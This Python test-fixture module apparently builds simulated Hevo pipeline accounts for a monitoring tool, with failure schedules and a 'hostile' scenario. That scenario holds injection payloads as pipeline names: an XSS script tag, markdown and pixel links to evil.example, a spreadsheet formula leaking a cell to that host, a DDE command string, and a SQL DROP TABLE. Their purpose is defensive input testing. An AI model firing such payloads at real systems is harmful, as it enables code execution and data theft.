"""The accounts to choose from: which pipelines exist, and how restless each one is."""

from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, replace
from typing import Any, NamedTuple

from .story import DAY, HOUR, MINUTE, Plan, Trouble

Json = dict[str, Any]

HOURLY = Plan(HOUR)


@dataclass(frozen=True, slots=True)
class Pipeline:
    """What does not change about a pipeline; `body` is what Hevo would send of it besides its words."""

    id: int | None
    body: Json
    objects: tuple[str, ...] = ()
    status: Any = "ACTIVE"  # text, except in the hostile account
    health_status: Any = "OK"
    plan: Plan = HOURLY
    log: str | None = None  # the log that it follows, where its source has one
    troubles: tuple[Trouble, ...] = ()


class Row(NamedTuple):
    """A pipeline in one line."""

    name: str
    kind: str
    display_name: str
    category: str
    destination: int
    minutes: int
    objects: str
    log: str | None = None


DESTINATIONS: Mapping[int, tuple[str, str, str, str, str]] = {
    12: ("Analytics", "SNOWFLAKE", "Snowflake", "ANALYTICS", "RAW"),
    15: ("Marketing lake", "BIGQUERY", "BigQuery", "marketing", "landing"),
    21: ("Finance warehouse", "REDSHIFT", "Redshift", "finance", "public"),
    34: ("Data science", "DATABRICKS", "Databricks", "lakehouse", "bronze"),
    35: ("Reporting copy", "POSTGRES", "PostgreSQL", "reporting", "public"),
}

SHOP = "orders order_items customers products refunds carts stock_levels audit_log"
SITES = " ".join(f"stock_site_{site:03}" for site in range(1, 151))
EVERYDAY = (
    Row("Orders DB", "MYSQL", "MySQL", "Databases", 12, 30, SHOP, "mysql-bin"),
    Row("Customer accounts", "POSTGRES", "PostgreSQL", "Databases", 12, 60, "accounts logins plans", "wal"),
    Row("Product catalogue", "MONGO", "MongoDB", "Databases", 34, 60, "products prices reviews", "oplog"),
    Row("Salesforce", "SALESFORCE_V2", "Salesforce", "CRM", 12, 60, "Account Contact Lead Opportunity Task"),
    Row("HubSpot contacts", "HUBSPOT", "HubSpot", "Marketing", 15, 120, "contacts companies deals"),
    Row("Stripe payments", "STRIPE", "Stripe", "Finance", 21, 60, "charges invoices payouts disputes"),
    Row("Web shop", "SHOPIFY", "Shopify", "E-Commerce", 12, 60, SHOP),
    Row("Google Ads spend", "ADWORDS", "Google Ads", "Marketing", 15, 360, "campaigns ads daily_spend"),
    Row("Facebook Ads spend", "FACEBOOK_ADS", "Facebook Ads", "Marketing", 15, 360, "campaigns ads insights"),
    Row("Support tickets", "ZENDESK", "Zendesk", "Support", 12, 60, "tickets users organizations ratings"),
    Row("Sales targets sheet", "GOOGLE_SHEETS", "Google Sheets", "Files", 35, 180, "targets_2026"),
    Row("Click stream", "KAFKA", "Apache Kafka", "Streaming", 34, 5, "page_views clicks"),
    Row("Supplier price files", "S3", "Amazon S3", "Files", 21, 720, "prices_eu prices_us"),
    Row("Delivery updates", "WEBHOOK", "Webhook", "Webhooks", 12, 5, "delivery_events delivery_problems"),
    Row("Engineering issues", "JIRA", "Jira Cloud", "Productivity", 35, 120, "issues sprints users"),
    Row("In-app messages", "INTERCOM", "Intercom", "Support", 15, 120, "conversations contacts tags"),
    Row("General ledger", "NETSUITE", "NetSuite", "Finance", 21, 1440, "accounts journal_entries vendors"),
    Row("Warehouse stock", "ORACLE", "Oracle", "Databases", 12, 30, SITES, "redo"),
    Row("Old billing system", "MS_SQL", "SQL Server", "Databases", 21, 240, "bills bill_lines dunning"),
    Row("Mailing lists", "MAILCHIMP", "Mailchimp", "Marketing", 15, 360, "lists members opens clicks"),
    Row("Website visits", "GA4", "Google Analytics 4", "Analytics", 15, 120, "sessions events pages"),
    Row("People and leave", "BAMBOOHR", "BambooHR", "HR", 35, 1440, "employees time_off"),
    Row("Refunds at the till", "DYNAMODB", "Amazon DynamoDB", "Databases", 12, 15, "refunds tills shifts"),
    Row("Delivery van sensors", "AZURE_BLOB", "Azure Blob Storage", "Files", 34, 180, "readings devices"),
)

# The troubles of everyday. Some pipelines fail one after another, so that somebody always does: each for 90 to 150
# minutes in eight hours, beginning 50 to 70 minutes after the one before.
TURNS = (
    "Customer accounts", "Product catalogue", "Salesforce", "HubSpot contacts", "Stripe payments", "Web shop",
    "Google Ads spend", "Website visits",
)  # fmt: skip
# About every eight hours one of these destinations, in turn, takes its pipelines down together.
TOGETHER: Mapping[int, tuple[str, ...]] = {
    12: ("Customer accounts", "Salesforce", "Web shop", "Delivery updates"),
    15: ("HubSpot contacts", "Google Ads spend", "Facebook Ads spend", "Website visits"),
}
PLANNED = Trouble(DAY, 40 * MINUTE, 40 * MINUTE)  # at each midnight (UTC) its destination is worked on, as announced
ALONE: Mapping[str, Trouble] = {
    "Click stream": Trouble(2 * MINUTE, MINUTE, MINUTE),  # restless: two minutes always show both turns
    "Support tickets": Trouble(  # flaps for about two hours of ten, and rests
        10 * MINUTE, 3 * MINUTE, 5 * MINUTE, within=Trouble(10 * HOUR, 100 * MINUTE, 150 * MINUTE, drift=6 * HOUR)
    ),
    "Engineering issues": PLANNED,
    # Stuck while Hevo says OK; so seldom that who has watched it for a day has not learned to expect it.
    "Refunds at the till": Trouble(36 * HOUR, 8 * HOUR, 10 * HOUR, drift=2 * HOUR, silent=True),
}

LONG = "A name that goes on " * 500
HOSTILE_NAMES = (
    "**bold** _it_ `code` [click](https://evil.example/) # heading",
    "![pixel](https://evil.example/pixel.png)",
    "<script>alert(1)</script><img src=https://evil.example/x onerror=alert(1)>",
    "https://evil.example/bare and www.evil.example and someone@evil.example",
    "=HYPERLINK(\"https://evil.example/?\"&A1, \"open\")",
    "+1-2", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1",
    "$x^2$ and $$\\frac{1}{0}$$",
    ":material/delete: :red[danger] :green-badge[OK] :rocket: :streamlit:",
    "\u202egnp.exe \u2066right to left\u2069 \u05e9\u05dc\u05d5\u05dd",
    "line one\nline two\r\n\nline four",
    "a | b | c\n--- | --- | ---",
    "👩‍👩‍👧‍👦🏳️‍🌈 é́́́́ Ω ﷽",
    "nul\x00 bell\x07 escape\x1b[31m",
    "{{7*7}} ${7*7} %s %(name)s {0}",
    "Robert'); DROP TABLE pipelines;--",
    "same name", "same name", "Same Name ",
    "", "   ", "\u200b\u2060",
    LONG, "x" * 10_000,
)  # fmt: skip


def everyday(count: int = len(EVERYDAY)) -> list[Pipeline]:
    """A believable account; beyond two dozen they are further branches of the same company."""
    return [everyday_pipeline(place) for place in range(count)]


def everyday_pipeline(place: int) -> Pipeline:
    """The pipeline at this place of the list; the ids have gaps, as deleted pipelines leave them."""
    branch, line = divmod(place, len(EVERYDAY))
    row = EVERYDAY[line]
    name = f"{row.name}, branch {branch + 1}" if branch else row.name
    kind = {"name": row.kind, "display_name": row.display_name, "categories": [row.category]}
    body = {
        "source": {"name": name, "type": kind},
        "destination": destination_body(row.destination),
        "schedule": {"type": "FREQUENCY", "schedule": row.minutes},
    }
    number, objects = 6590 + place * 7 + place * place % 5, tuple(row.objects.split())
    return peculiar(row.kind, Pipeline(number, body, objects, plan=Plan(row.minutes * MINUTE), log=row.log))


def destination_body(number: int) -> Json:
    """A destination as Hevo sends it, inside a pipeline and by itself."""
    name, kind, display_name, database, schema = DESTINATIONS[number]
    return {
        "id": number,
        "name": name,
        "status": "ACTIVE",
        "health_status": "OK",
        "type": {"name": kind, "display_name": display_name},
        "config": {"db_name": database, "schema_name": schema, "db_user": "hevo_loader"},
    }


def peculiar(kind: str, pipeline: Pipeline) -> Pipeline:
    """The optional properties, which some pipelines have and others lack."""
    body = pipeline.body
    match kind:
        case "MYSQL" | "POSTGRES":
            body["source"]["config"] = {"db_host": "db.shop.example", "db_user": "hevo", "db_name": "shop"}
        case "WEBHOOK":
            body["webhook_url"] = f"https://us.hevodata.com/webhooks/sample-secret-{pipeline.id}"
            del body["schedule"]
        case "JIRA":
            body["source"]["type"] = "JIRA"
        case "STRIPE":
            body["priority"] = "HIGH"
        case "BAMBOOHR":
            body["schedule"] = {"type": "CRON", "schedule": "0 6 * * *"}
            return replace(pipeline, plan=Plan(DAY, 6 * HOUR))
        case "NETSUITE":
            body["schedule"] = {"type": "CRON", "schedule": "0 7 * * 1-5"}
            return replace(pipeline, plan=Plan(DAY, 7 * HOUR, workdays=True))
        case "AZURE_BLOB":  # comes in bursts
            return replace(pipeline, plan=Plan(3 * HOUR, runs=5, gap=10 * MINUTE))
        case "MS_SQL":
            return replace(pipeline, status="INACTIVE")
        case "GOOGLE_SHEETS":
            return replace(pipeline, health_status=None)
    return pipeline


def hostile() -> list[Pipeline]:
    """Everything that text from elsewhere can hold, then the odd shapes that an API can send."""
    named = [hostile_pipeline(place, name) for place, name in enumerate(HOSTILE_NAMES)]
    first = named[0]
    odd = [
        replace(first, id=9001, status="EXPLODED", health_status="DEGRADED"),
        replace(first, id=9002, status="active", health_status="ok"),
        replace(first, id=9003, status="INACTIVE", health_status="FAILED"),
        replace(first, id=9004, status=1, health_status={"value": "OK"}),
        replace(first, id=9005, status=None, health_status=None),
        replace(first, id=9006, body={}),
        replace(first, id=9007, body={"source": None, "destination": None, "schedule": None}),
        replace(first, id=9008, body={"source": {"name": 7, "type": ["MYSQL"]}, "schedule": {}}),
        replace(first, id=None),
    ]
    return named + odd


def hostile_pipeline(place: int, name: str) -> Pipeline:
    """A pipeline whose every text is this one, and whose settings hold what nobody may see."""
    body = {
        "source": {
            "name": name,
            "type": {"name": name, "display_name": name, "categories": [name]},
            "config": {"db_password": "hunter2-must-stay-hidden", "api_token": "tok-must-stay-hidden"},
        },
        "destination": destination_body(12)
        | {"name": name, "config": {"url": "https://root:pass-must-stay-hidden@db.example/x"}},
        "schedule": {"type": "FREQUENCY", "schedule": 60},
        "webhook_url": "https://us.hevodata.com/webhooks/must-stay-hidden",
    }
    return Pipeline(8000 + place * 3, body, (name or "empty", "a/b?c=d#e %2F", "ordinary"))


def troubled(pipelines: list[Pipeline]) -> list[Pipeline]:
    """Everyday's troubles; further branches share those of whole lines."""
    turning = [p.id for p in pipelines if line_of(p) in TURNS]
    turns = {number: turn for turn, number in enumerate(turning)}
    return [replace(p, troubles=tuple(troubles(p, turns))) for p in pipelines]


def line_of(pipeline: Pipeline) -> str:
    """The name of a pipeline's line, which further branches repeat."""
    return str(pipeline.body["source"]["name"]).partition(", branch")[0]


def troubles(pipeline: Pipeline, turns: Mapping[int | None, int]) -> Iterator[Trouble]:
    """What befalls this pipeline; `turns` says whose turn it is by number."""
    if pipeline.id in turns:
        yield Trouble(8 * HOUR, 90 * MINUTE, 150 * MINUTE, turns[pipeline.id], len(turns), drift=10 * MINUTE)
    for turn, (number, lines) in enumerate(TOGETHER.items()):
        if line_of(pipeline) in lines:
            shared, among = f"destination {number}", len(TOGETHER)
            yield Trouble(16 * HOUR, 40 * MINUTE, 90 * MINUTE, turn, among, 5 * HOUR, shared, lag=8 * MINUTE)
    if alone := ALONE.get(pipeline.body["source"]["name"]):
        yield alone


def storm() -> list[Pipeline]:
    """About half of all fail at any time, each for about four hours of six."""
    pipelines = everyday()
    for turn, p in enumerate(pipelines):
        if (p.status, p.health_status) == ("ACTIVE", "OK"):
            pipelines[turn] = replace(p, troubles=(Trouble(6 * HOUR, 4 * HOUR, 4 * HOUR, turn, len(pipelines)),))
    return pipelines


SCENARIOS: Mapping[str, Callable[[], list[Pipeline]]] = {
    "everyday": lambda: troubled(everyday()),
    "calm": lambda: [replace(pipeline, health_status="OK") for pipeline in everyday()],  # and one is paused
    "storm": storm,
    "empty": list,
    "large": lambda: troubled(everyday(1_000)),
    "huge": lambda: troubled(everyday(10_000)),
    "hostile": hostile,
}
